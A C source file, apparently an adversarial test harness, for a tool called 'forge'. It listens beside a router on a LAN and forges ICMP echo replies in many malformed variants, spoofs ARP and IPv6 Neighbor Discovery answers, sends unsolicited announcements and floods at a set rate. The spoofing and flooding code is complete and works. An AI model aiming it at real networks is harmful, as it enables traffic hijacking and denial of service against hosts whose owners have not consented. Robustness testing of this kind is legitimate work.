/* SPDX-License-Identifier: ISC */
/*
 * forge: a neighbour of the router's who wants it to be wrong.  He sees its
 * probes and questions on the interface, and makes answers of his own.
 *
 *	forge [-m MAC] INTERFACE VICTIM KIND...
 *
 * VICTIM is the router's address there, of either family.  He speaks with
 * the interface's own MAC, or with the one given.  To each echo request:
 *
 *	true		the answer that it hopes for
 *	token		the same with another payload
 *	header		of another source, destination, identifier, number or
 *			MAC; with wrong checksums; another type
 *	truncated	cut after each octet, with and without telling so
 *	fragment	in pieces
 *	tagged		with one and two VLAN tags
 *	oversized	with more payload, up to the MTU
 *	error		ICMP errors, quoting it and quoting others
 *	twice		the true answer, three times
 *	late=MS		the true answer, so much later; "late" is printed once
 *	unasked		he is the one that was asked for last, and the victim
 *			himself, told to him and to all
 *
 * To each question of ARP or ND:
 *
 *	spoof		it is me
 *	flap		it is somebody else each time
 *	group		it is all
 *	strange		others are me, and the victim is
 *
 * And without being asked, as of the last echo request:
 *
 *	flood=RATE	replies with its identifier, so many a second
 *	storm=RATE	or claims to be the one that was asked for last
 *
 * On SIGTERM or SIGINT it ends and tells what was done:
 *
 *	forge seen=N sent=N flood=N ms=N rate=N
 */
#include <sys/types.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define ALL_FRAMES  0x0003 /* ETH_P_ALL */
#define MAC         6
#define ETHER       14
#define FRAME_MAX   1600
#define MTU         1500
#define LATE_MAX    1024
#define BATCH_MAX   256
#define TICK_NS     1000000 /* of a flood */
#define QUEUE_BYTES (8 << 20)

struct frame {
	uint8_t p[FRAME_MAX];
	size_t len;
};

static volatile sig_atomic_t stop;
static int s = -1;
static int v6;
static size_t addr_size, head_len; /* of its IP */
static uint8_t victim[16], asked[16]; /* asked: by the victim, last */
static uint8_t victim_mac[MAC], own[MAC];
static int has_asked;
static struct {
	struct frame f;
	int64_t due; /* 0: free */
} late[LATE_MAX];
static struct frame drop; /* of the flood; empty: no request yet */
static int drop_is_echo; /* with another token each time */
static unsigned long seen, sent, flooded, number;
static int64_t flood_began;

static void
on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static int64_t
now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000000000 + t.tv_nsec;
}

/* --- frames ----------------------------------------------------------------- */

static void
put16(uint8_t *p, size_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

/* RFC 1071, over what is there and a sum before. */
static unsigned int
checksum(const uint8_t *p, size_t len, unsigned long sum)
{
	size_t i;

	for (i = 0; i < len; i++)
		sum += i % 2 == 0 ? (unsigned long)p[i] << 8 : p[i];
	while (sum > 0xffff)
		sum = (sum >> 16) + (sum & 0xffff);
	return (unsigned int)(~sum & 0xffff);
}

static uint8_t *
src_of(struct frame *f)
{
	return f->p + ETHER + (v6 ? 8 : 12);
}

static uint8_t *
dst_of(struct frame *f)
{
	return src_of(f) + addr_size;
}

static uint8_t *
icmp_of(struct frame *f)
{
	return f->p + ETHER + head_len;
}

/* All lengths and checksums, as they should be. */
static void
seal(struct frame *f)
{
	uint8_t *ip = f->p + ETHER, *icmp = icmp_of(f);
	size_t len = f->len - ETHER - head_len;

	memset(icmp + 2, 0, 2);
	if (v6) {
		put16(ip + 4, len);
		put16(icmp + 2, checksum(ip + 8, 32 + len, 58 + len));
		return;
	}
	put16(ip + 2, head_len + len);
	memset(ip + 10, 0, 2);
	put16(ip + 10, checksum(ip, head_len, 0));
	put16(icmp + 2, checksum(icmp, len, 0));
}

static void
say(const struct frame *f, size_t len)
{
	if (send(s, f->p, len, 0) == (ssize_t)len)
		sent++;
	else if (errno != ENOBUFS && errno != EINVAL && errno != EMSGSIZE)
		err(1, "send");
}

static void
say_sealed(struct frame *f)
{
	seal(f);
	say(f, f->len);
}

/* What an honest target would say to this request. */
static struct frame
reply_to(const struct frame *request)
{
	struct frame f = *request;
	uint8_t swap[16];

	memcpy(f.p, victim_mac, MAC);
	memcpy(f.p + MAC, own, MAC);
	memcpy(swap, src_of(&f), addr_size);
	memcpy(src_of(&f), dst_of(&f), addr_size);
	memcpy(dst_of(&f), swap, addr_size);
	icmp_of(&f)[0] = v6 ? 129 : 0;
	seal(&f);
	return f;
}

/* --- echo ------------------------------------------------------------------- */

static void
say_true(const struct frame *request, long arg)
{
	struct frame f = reply_to(request);

	(void)arg;
	say(&f, f.len);
}

static void
say_twice(const struct frame *request, long arg)
{
	say_true(request, arg);
	say_true(request, arg);
	say_true(request, arg);
}

static void
say_late(const struct frame *request, long ms)
{
	size_t i;

	for (i = 0; i < LATE_MAX; i++)
		if (late[i].due == 0) {
			late[i].f = reply_to(request);
			late[i].due = now() + ms * INT64_C(1000000);
			return;
		}
}

static void
say_token(const struct frame *request, long arg)
{
	struct frame f = reply_to(request);
	size_t i;

	(void)arg;
	icmp_of(&f)[8] ^= 1; /* nearly right */
	say_sealed(&f);
	for (i = 8; i < 16; i++)
		icmp_of(&f)[i] = (uint8_t)(number + i);
	say_sealed(&f);
	for (i = 0; i < 4; i++) {
		icmp_of(&f)[7]++; /* those to come */
		say_sealed(&f);
	}
}

/* One octet is another one; sealed after that, or not. */
static void
say_but(const struct frame *reply, size_t at, int sealed)
{
	struct frame f = *reply;

	f.p[at] ^= 0x10;
	if (sealed)
		seal(&f);
	say(&f, f.len);
}

static void
say_header(const struct frame *request, long arg)
{
	static const uint8_t types[] = { 3, 5, 8, 11, 12, 14, 18, 128, 130,
		200 };
	struct frame f = reply_to(request), t = f;
	size_t icmp = ETHER + head_len;
	size_t src = (size_t)(src_of(&f) - f.p), i;

	(void)arg;
	say_but(&f, src + addr_size - 1, 1);
	say_but(&f, src + 2 * addr_size - 1, 1);
	say_but(&f, icmp + 1, 1); /* code */
	say_but(&f, icmp + 5, 1); /* identifier */
	say_but(&f, icmp + 6, 1); /* number */
	say_but(&f, icmp + 2, 0); /* its checksum */
	say_but(&f, ETHER + (v6 ? 6 : 10), 0); /* IP's, or next header */
	say_but(&f, ETHER, 0); /* version */
	say_but(&f, 2, 0); /* to another MAC */
	for (i = 0; i < sizeof(types); i++) {
		icmp_of(&t)[0] = types[i];
		say_sealed(&t);
	}
	memset(f.p, 0xff, MAC); /* to all */
	say(&f, f.len);
}

static void
say_truncated(const struct frame *request, long arg)
{
	struct frame f = reply_to(request), cut;
	size_t len;

	(void)arg;
	for (len = ETHER; len < f.len; len++) {
		say(&f, len);
		if (len < ETHER + head_len + 8)
			continue;
		cut = f;
		cut.len = len;
		say_sealed(&cut);
	}
}

static void
say_fragment(const struct frame *request, long arg)
{
	struct frame f = reply_to(request), part;
	size_t half = 32, len = f.len - ETHER - head_len;

	(void)arg;
	part = f;
	if (v6) { /* RFC 8200, section 4.5: whole, but with the header */
		memmove(icmp_of(&part) + 8, icmp_of(&f), len);
		memset(icmp_of(&part), 0, 8);
		icmp_of(&part)[0] = 58;
		part.p[ETHER + 6] = 44;
		put16(part.p + ETHER + 4, len + 8);
		say(&part, f.len + 8);
		return;
	}
	put16(part.p + ETHER + 6, 0x2000); /* more: the message is whole here */
	part.len = ETHER + head_len + half;
	put16(part.p + ETHER + 2, head_len + half);
	put16(part.p + ETHER + 10, 0);
	put16(part.p + ETHER + 10, checksum(part.p + ETHER, head_len, 0));
	say(&part, part.len);
	memcpy(icmp_of(&part), icmp_of(&f) + half, len - half);
	put16(part.p + ETHER + 6, half / 8);
	part.len = ETHER + head_len + len - half;
	put16(part.p + ETHER + 2, head_len + len - half);
	put16(part.p + ETHER + 10, 0);
	put16(part.p + ETHER + 10, checksum(part.p + ETHER, head_len, 0));
	say(&part, part.len);
	part = f; /* all of it, but with another piece to come, or before it */
	put16(part.p + ETHER + 6, 0x2000);
	say_sealed(&part);
	put16(part.p + ETHER + 6, 1);
	say_sealed(&part);
}

static struct frame
tag(const struct frame *in, size_t type, size_t id)
{
	struct frame f = *in;

	memmove(f.p + 16, in->p + 12, in->len - 12);
	put16(f.p + 12, type);
	put16(f.p + 14, id);
	f.len += 4;
	return f;
}

static void
say_tagged(const struct frame *request, long arg)
{
	struct frame f = reply_to(request), one, two;

	(void)arg;
	one = tag(&f, 0x8100, 7);
	say(&one, one.len);
	two = tag(&one, 0x88a8, 9);
	say(&two, two.len);
	two = tag(&one, 0x8100, 9);
	say(&two, two.len);
	one = tag(&f, 0x88a8, 7);
	say(&one, one.len);
}

static void
say_oversized(const struct frame *request, long arg)
{
	static const size_t more[] = { 1, 2, 8, 64, 512, 1024 };
	struct frame f = reply_to(request), big;
	size_t i;

	(void)arg;
	for (i = 0; i <= sizeof(more) / sizeof(more[0]); i++) {
		big = f;
		big.len = i < sizeof(more) / sizeof(more[0]) ? f.len + more[i]
							     : ETHER + MTU;
		/* so that the checksum is that of the true part as well */
		memset(big.p + f.len, 0, big.len - f.len);
		say_sealed(&big);
	}
	big = f; /* it tells of less than there is, and of more */
	put16(big.p + ETHER + (v6 ? 4 : 2), (v6 ? 0 : head_len) + 48);
	say(&big, f.len);
	put16(big.p + ETHER + (v6 ? 4 : 2), (v6 ? 0 : head_len) + 1400);
	say(&big, f.len);
}

/* RFC 792 and RFC 4443: the packet's head behind eight octets. */
static void
say_error(const struct frame *request, long arg)
{
	static const uint8_t four[][2] = { { 3, 0 }, { 3, 1 }, { 3, 3 },
		{ 3, 4 }, { 3, 13 }, { 5, 1 }, { 11, 0 }, { 12, 0 } };
	static const uint8_t six[][2] = { { 1, 0 }, { 1, 1 }, { 1, 3 },
		{ 1, 4 }, { 2, 0 }, { 3, 0 }, { 4, 0 }, { 4, 1 } };
	struct frame f = reply_to(request), quoted = *request;
	size_t i, len = request->len - ETHER;

	(void)arg;
	f.len = ETHER + head_len + 8 + len;
	for (i = 0; i < 2 * sizeof(four) / sizeof(four[0]); i++) {
		memset(icmp_of(&f), 0, 8);
		memcpy(icmp_of(&f), v6 ? six[i / 2] : four[i / 2], 2);
		if (i % 2 == 1) /* of somebody else's */
			quoted.p[ETHER + head_len + 4] ^= 1;
		memcpy(icmp_of(&f) + 8, quoted.p + ETHER, len);
		say_sealed(&f);
	}
}

/* --- neighbours ------------------------------------------------------------- */

/* "It is at that MAC", as an answer to the victim, or told to all. */
static struct frame
claim(const uint8_t *ip, const uint8_t *mac, int to_all, int operation)
{
	static const uint8_t arp[] = { 8, 6, 0, 1, 8, 0, 6, 4, 0 };
	static const uint8_t nd[] = { 0x86, 0xdd, 0x60, 0, 0, 0, 0, 32, 58,
		255 };
	static const uint8_t nodes[16] = { 0xff, 2, [15] = 1 };
	static const uint8_t nodes_mac[MAC] = { 0x33, 0x33, 0, 0, 0, 1 };
	struct frame f;

	memset(&f, 0, sizeof(f));
	memcpy(f.p, victim_mac, MAC);
	memcpy(f.p + MAC, mac, MAC);
	if (v6) {
		memcpy(f.p + 12, nd, sizeof(nd));
		memcpy(src_of(&f), ip, 16);
		memcpy(dst_of(&f), to_all ? nodes : victim, 16);
		icmp_of(&f)[0] = 136;
		icmp_of(&f)[4] = to_all ? 0x20 : 0x60; /* override, solicited */
		memcpy(icmp_of(&f) + 8, ip, 16);
		icmp_of(&f)[24] = 2;
		icmp_of(&f)[25] = 1;
		memcpy(icmp_of(&f) + 26, mac, MAC);
		if (to_all)
			memcpy(f.p, nodes_mac, MAC);
		f.len = 86;
		seal(&f);
		return f;
	}
	memcpy(f.p + 12, arp, sizeof(arp));
	f.p[21] = (uint8_t)operation;
	memcpy(f.p + 22, mac, MAC);
	memcpy(f.p + 28, ip, 4);
	memcpy(f.p + 32, victim_mac, MAC);
	memcpy(f.p + 38, to_all ? ip : victim, 4);
	if (to_all)
		memset(f.p, 0xff, MAC);
	f.len = 42;
	return f;
}

static void
tell(const uint8_t *ip, const uint8_t *mac, int to_all, int operation)
{
	struct frame f = claim(ip, mac, to_all, operation);

	say(&f, f.len);
}

static void
say_unasked(const struct frame *request, long arg)
{
	(void)request;
	(void)arg;
	if (has_asked) {
		tell(asked, own, 0, 2);
		tell(asked, own, 0, 1);
		tell(asked, own, 1, 2);
		tell(asked, own, 1, 1);
	}
	tell(victim, own, 1, 2);
	tell(victim, own, 1, 1);
}

static void
say_spoof(const struct frame *request, long arg)
{
	(void)request;
	(void)arg;
	tell(asked, own, 0, 2);
}

static void
say_flap(const struct frame *request, long arg)
{
	uint8_t mac[MAC] = { 2, 0, 0, 0x66, 0, 0 };

	(void)request;
	(void)arg;
	put16(mac + 4, number & 0xffff);
	tell(asked, mac, 0, 2);
	tell(asked, mac, 1, 2);
}

static void
say_group(const struct frame *request, long arg)
{
	static const uint8_t group[MAC] = { 0xff, 0xff, 0xff, 0xff, 0xff,
		0xff };

	(void)request;
	(void)arg;
	tell(asked, group, 0, 2);
	tell(asked, group, 1, 2);
}

static void
say_strange(const struct frame *request, long arg)
{
	uint8_t ip[16];

	(void)request;
	(void)arg;
	memcpy(ip, asked, sizeof(ip));
	ip[addr_size - 1] ^= 0x40;
	tell(ip, own, 0, 2);
	tell(victim, own, 0, 2);
}

/* --- what he sees, and does ------------------------------------------------- */

static void
begin_flood(const struct frame *request, long rate)
{
	(void)rate;
	drop = reply_to(request);
	drop_is_echo = 1;
	if (flood_began == 0)
		flood_began = now();
}

static void
begin_storm(const struct frame *request, long rate)
{
	(void)request;
	(void)rate;
	if (!has_asked)
		return;
	drop = claim(asked, own, 0, 2);
	if (flood_began == 0)
		flood_began = now();
}

static const struct kind {
	const char *name;
	void (*does)(const struct frame *, long);
	int to_question;
} kinds[] = {
	{ "true", say_true, 0 },
	{ "token", say_token, 0 },
	{ "header", say_header, 0 },
	{ "truncated", say_truncated, 0 },
	{ "fragment", say_fragment, 0 },
	{ "tagged", say_tagged, 0 },
	{ "oversized", say_oversized, 0 },
	{ "error", say_error, 0 },
	{ "twice", say_twice, 0 },
	{ "late", say_late, 0 },
	{ "unasked", say_unasked, 0 },
	{ "flood", begin_flood, 0 },
	{ "storm", begin_storm, 0 },
	{ "spoof", say_spoof, 1 },
	{ "flap", say_flap, 1 },
	{ "group", say_group, 1 },
	{ "strange", say_strange, 1 },
};

#define KINDS (sizeof(kinds) / sizeof(kinds[0]))

static struct {
	int wanted;
	long arg;
} does[KINDS];
static long flood_rate;

static void __dead
usage(void)
{
	fprintf(stderr,
	    "usage: forge [-m mac] interface victim kind[=number] ...\n");
	exit(2);
}

static void
want(const char *word)
{
	size_t i, len = strcspn(word, "=");

	for (i = 0; i < KINDS; i++)
		if (strlen(kinds[i].name) == len &&
		    strncmp(kinds[i].name, word, len) == 0)
			break;
	if (i == KINDS)
		usage();
	does[i].wanted = 1;
	if (word[len] == '=')
		does[i].arg = strtol(word + len + 1, NULL, 10);
	if (kinds[i].does == begin_flood || kinds[i].does == begin_storm)
		flood_rate = does[i].arg;
}

static void
react(const struct frame *f, int to_question)
{
	size_t i;

	seen++;
	number++;
	for (i = 0; i < KINDS; i++)
		if (does[i].wanted && kinds[i].to_question == to_question)
			kinds[i].does(f, does[i].arg);
}

/* A question of the victim's: about whom. */
static const uint8_t *
question(struct frame *f)
{
	if (v6)
		return f->len >= 78 && f->p[54] == 135 ? f->p + 62 : NULL;
	return f->len >= 42 && f->p[12] == 8 && f->p[13] == 6 &&
		       f->p[21] == 1 && memcmp(f->p + 28, victim, 4) == 0
		   ? f->p + 38
		   : NULL;
}

static int
is_ip(const struct frame *f)
{
	return f->len >= ETHER + head_len + 16 && f->p[12] == (v6 ? 0x86 : 8) &&
	       f->p[13] == (v6 ? 0xdd : 0) &&
	       f->p[ETHER + (v6 ? 6 : 9)] == (v6 ? 58 : 1);
}

static void
look(struct frame *f)
{
	const uint8_t *about = NULL;

	if (v6 ? is_ip(f) : f->len >= 42)
		about = question(f);
	if (about != NULL) {
		memcpy(victim_mac, f->p + MAC, MAC);
		memcpy(asked, about, addr_size);
		has_asked = 1;
		react(f, 1);
	} else if (is_ip(f) && icmp_of(f)[0] == (v6 ? 128 : 8) &&
		   memcmp(src_of(f), victim, addr_size) == 0) {
		memcpy(victim_mac, f->p + MAC, MAC);
		react(f, 0);
	}
}

static void
look_all(void)
{
	struct sockaddr_ll from;
	struct frame f;
	socklen_t len;
	ssize_t n;

	for (;;) {
		len = sizeof(from);
		n = recvfrom(
		    s, f.p, MTU, MSG_DONTWAIT, (struct sockaddr *)&from, &len);
		if (n == -1)
			return;
		f.len = (size_t)n;
		if (from.sll_pkttype != PACKET_OUTGOING)
			look(&f);
	}
}

/* What is due of the late ones; the time of the next, or 0. */
static int64_t
say_due(void)
{
	static unsigned long told;
	int64_t next = 0;
	size_t i;

	for (i = 0; i < LATE_MAX; i++) {
		if (late[i].due == 0)
			continue;
		if (late[i].due <= now()) {
			say(&late[i].f, late[i].f.len);
			late[i].due = 0;
			if (told++ == 0) {
				puts("late");
				fflush(stdout);
			}
		} else if (next == 0 || late[i].due < next)
			next = late[i].due;
	}
	return next;
}

/* As many as should be out by now; what could not be is not made up for. */
static void
flood(void)
{
	static struct mmsghdr m[BATCH_MAX];
	static struct iovec iov = { drop.p, 0 };
	static int64_t then;
	int64_t t = now(), due;
	unsigned int i, n;
	int done;

	if (then == 0 || t - then > 20 * TICK_NS)
		then = t - TICK_NS;
	due = (t - then) * flood_rate / 1000000000;
	then = t;
	if (drop_is_echo) {
		number++;
		memcpy(icmp_of(&drop) + 8, &number, sizeof(number));
		seal(&drop);
	}
	for (; due > 0; due -= n) {
		n = due > BATCH_MAX ? BATCH_MAX : (unsigned int)due;
		iov.iov_len = drop.len;
		for (i = 0; i < n; i++) {
			m[i].msg_hdr.msg_iov = &iov;
			m[i].msg_hdr.msg_iovlen = 1;
		}
		if ((done = sendmmsg(s, m, n, 0)) > 0)
			flooded += (unsigned int)done;
	}
}

static void
run(void)
{
	struct pollfd pfd = { s, POLLIN, 0 };
	struct timespec wait;
	int64_t next, left;

	while (!stop) {
		next = say_due();
		if (flood_rate > 0 && drop.len > 0)
			next = now() + TICK_NS;
		left = next == 0 ? 100000000 : next - now();
		if (left < 0)
			left = 0;
		wait.tv_sec = left / 1000000000;
		wait.tv_nsec = left % 1000000000;
		(void)ppoll(&pfd, 1, &wait, NULL);
		look_all();
		if (flood_rate > 0 && drop.len > 0)
			flood();
	}
}

static void
open_socket(const char *ifname)
{
	struct sockaddr_ll sll;
	struct ifreq ifr;
	int on = 1, size = QUEUE_BYTES;

	s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ALL_FRAMES));
	if (s == -1)
		err(1, "socket");
	memset(&sll, 0, sizeof(sll));
	sll.sll_family = AF_PACKET;
	sll.sll_protocol = htons(ALL_FRAMES);
	sll.sll_ifindex = (int)if_nametoindex(ifname);
	if (bind(s, (struct sockaddr *)&sll, sizeof(sll)) == -1)
		err(1, "%s", ifname);
	memset(&ifr, 0, sizeof(ifr));
	strlcpy(ifr.ifr_name, ifname, sizeof(ifr.ifr_name));
	if (ioctl(s, SIOCGIFHWADDR, &ifr) == -1)
		err(1, "%s", ifname);
	memcpy(own, ifr.ifr_hwaddr.sa_data, MAC);
	/* he is not the one who says that there is no room */
	(void)setsockopt(s, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on));
	(void)setsockopt(s, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof(size));
}

static void
set_mac(const char *text)
{
	unsigned int o[MAC], i;

	if (sscanf(text, "%x:%x:%x:%x:%x:%x", &o[0], &o[1], &o[2], &o[3], &o[4],
		&o[5]) != MAC)
		usage();
	for (i = 0; i < MAC; i++)
		own[i] = (uint8_t)o[i];
}

int
main(int argc, char *argv[])
{
	const char *mac = NULL;
	int64_t ms;
	int c;

	while ((c = getopt(argc, argv, "m:")) != -1)
		switch (c) {
		case 'm':
			mac = optarg;
			break;
		default:
			usage();
		}
	argc -= optind;
	argv += optind;
	if (argc < 3)
		usage();
	open_socket(argv[0]);
	if (mac != NULL)
		set_mac(mac);
	v6 = strchr(argv[1], ':') != NULL;
	addr_size = v6 ? 16 : 4;
	head_len = v6 ? 40 : 20;
	if (inet_pton(v6 ? AF_INET6 : AF_INET, argv[1], victim) != 1)
		usage();
	for (c = 2; c < argc; c++)
		want(argv[c]);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	run();
	ms = flood_began == 0 ? 0 : (now() - flood_began) / 1000000;
	printf("forge seen=%lu sent=%lu flood=%lu ms=%lld rate=%lld\n", seen,
	    sent, flooded, (long long)ms,
	    ms == 0 ? 0LL : (long long)flooded * 1000 / (long long)ms);
	return 0;
}
